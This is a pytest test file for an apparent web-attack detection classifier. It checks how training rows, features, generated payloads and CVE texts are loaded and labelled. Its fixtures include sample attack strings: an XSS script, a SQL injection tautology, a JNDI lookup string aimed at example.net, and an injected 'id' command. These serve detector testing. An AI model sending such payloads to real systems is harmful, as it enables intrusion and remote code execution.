"""Training rows made ready."""

import gzip
import json
from dataclasses import replace

import numpy as np
import pytest

from dragoman.config import Limits
from dragoman.corpus import ATTACK, BENIGN, Instances, generate_rows, grouped, load
from dragoman.errors import SourceError, UsageError
from dragoman.features import Grams, features
from dragoman.intel.threats import benchmark, builtin
from dragoman.recipe import Grammar, Recipe, Stage2
from dragoman.records import Payload, Text, Where

HERE = Where("test")
SMALL = Recipe("small", stage2=Stage2(bits=10), grammar=Grammar(per_class=0))
ROWS = [
    {"id": "1", "payload": "<script>alert(1)</script>", "label": "cross-site-scripting"},
    {"id": "2", "payload": "1' or 1=1-- -", "label": "sql-injection"},
    {"id": "3", "payload": "a <3 b; c", "label": "benign"},
    {"id": "4", "payload": "${jndi:ldap://example.net/a}", "label": "attack"},
    {"id": "5", "payload": "plainword", "label": "benign"},  # nothing in it can be read
    {"id": "6", "payload": "x;id", "label": "no-benchmark-class"},
    {"id": "7", "payload": "x;id"},
    {"id": "8", "payload": "GET /?q=%3Cb%3E HTTP/1.1\r\n\r\n", "kind": "http", "label": "benign"},
]


@pytest.fixture
def data(tmp_path):
    lines = "\n".join(map(json.dumps, ROWS)) + "\nnot json\n"
    (tmp_path / "train-a.jsonl.gz").write_bytes(gzip.compress(lines.encode()))
    (tmp_path / "train-b.jsonl").write_text(json.dumps(ROWS[0] | {"id": "9"}) + "\n")
    (tmp_path / "valid.jsonl").write_text(lines)
    (tmp_path / "texts").mkdir()
    cve = {"cve": "CVE-2020-90001", "cwe": ["CWE-89"], "description": "A quote ends the string."}
    (tmp_path / "texts" / "cve.jsonl").write_text(json.dumps(cve) + "\n")
    return tmp_path


def test_a_training_directory(data):
    corpus = load(SMALL, data, 1, None)
    xss, sqli = (corpus.classes.index(s) for s in ("cross-site-scripting", "sql-injection"))
    expected = [xss, sqli, BENIGN, ATTACK, BENIGN]
    assert corpus.train.labels.tolist() == [*expected, xss]
    assert corpus.valid.labels.tolist() == expected
    assert corpus.valid.whole.tolist() == [False] * 4 + [True]
    assert [t.id for t in corpus.described] == ["CVE-2020-90001"]
    assert corpus.counts == {
        **{"train": 9, "train rejected": 1, "valid": 8, "valid rejected": 1},
        **{"generated": 0, "texts": 1},
    }


def test_the_features_of_every_instance(data):
    instances = load(SMALL, data, 1, None).instances
    for i, text in enumerate(instances.strings):
        ids, _ = features([text], Grams(bits=10))
        assert (
            instances.ids[instances.offsets[i] : instances.offsets[i + 1]].tolist() == ids.tolist()
        )


def test_a_limit_samples_the_rows(data):
    (data / "valid.jsonl").write_text("\n".join(json.dumps(r) for r in ROWS[:3]) + "\n")
    corpus = load(SMALL, data, 1, 3)
    assert len(corpus.train.labels) <= 3


@pytest.mark.parametrize("name", ["train", "valid"])
def test_missing_rows_are_named(data, name):
    for path in data.glob(f"{name}*"):
        path.unlink()
    with pytest.raises(SourceError, match=rf"no {name}\*\.jsonl") as caught:
        load(SMALL, data, 1, None)
    assert "docs/training.md" in str(caught.value)


@pytest.mark.parametrize(
    ("label", "message"),
    [("benign", "attack of a benchmark class"), ("sql-injection", "benign record")],
)
def test_rows_of_one_kind_only_are_refused(data, label, message):
    rows = [r for r in ROWS if r.get("label") == label]
    (data / "valid.jsonl").write_text("\n".join(map(json.dumps, rows)) + "\n")
    with pytest.raises(SourceError, match=message):
        load(SMALL, data, 1, None)


def test_a_bag_holds_each_instance_of_a_record_once():
    instances = Instances(Grams(), Limits())
    data = b"GET /?a=%3Cb%3E&c=%3Cb%3E&d=%27-- HTTP/1.1\r\nHost: example.com\r\n\r\n"
    bag = instances.bag(Payload("1", data, "http", HERE))
    assert len(bag) == len(set(bag.tolist())) == len(instances.strings)
    assert {b"<b>", b"'--"} <= set(instances.strings)
    again = instances.bag(Payload("2", data, "http", HERE))
    assert again.tolist() == bag.tolist()


def test_generated_rows_are_repeatable_and_of_every_class():
    settings = Grammar(per_class=8, benign=20)
    rows = generate_rows(settings, 3)
    assert rows == generate_rows(settings, 3)
    assert rows != generate_rows(settings, 4)
    labels = [r.label for r in rows]
    assert {labels.count(slug) for slug in benchmark()} == {8}
    assert labels.count("benign") == 20
    whole = np.array([r.payload.kind == "http" for r in rows])
    assert 0.3 < whole.mean() < 0.9
    assert generate_rows(Grammar(per_class=0), 3) == []


def test_texts_belong_to_the_threat_of_their_first_matching_cwe():
    def text(number, *cwe):
        return Text(f"CVE-2020-{number}", "t", "b", "cve", "cve", cwe=cwe)

    texts = [
        text(1, "CWE-79"),
        text(2, "CWE-999999", "CWE-89"),
        text(3),
        text(4, "CWE-89", "CWE-79"),
    ]
    found = {k: [t.id[-1] for t in v] for k, v in grouped(texts, builtin()).items()}
    assert found == {"class:cross-site-scripting": ["1"], "class:sql-injection": ["2", "4"]}


def test_a_class_left_out(data):
    whole = load(SMALL, data, 1, None)
    corpus = load(replace(SMALL, without=("sql-injection",)), data, 1, None)
    assert corpus.classes == tuple(c for c in benchmark() if c != "sql-injection")
    assert len(corpus.train.labels) == len(whole.train.labels) - 1
    assert {t.slug for t in corpus.threats} >= set(benchmark())  # its text stays


def test_no_payload_of_a_class_left_out_is_generated():
    settings = Grammar(per_class=3, benign=2)
    rows = generate_rows(settings, 1, without=("open-redirect", "sql-injection"))
    others = [
        r for r in generate_rows(settings, 1) if r.label not in ("open-redirect", "sql-injection")
    ]
    assert rows == others


def test_a_class_left_out_must_be_one(data):
    with pytest.raises(UsageError, match="no class 'sqli'"):
        load(replace(SMALL, without=("sqli",)), data, 1, None)
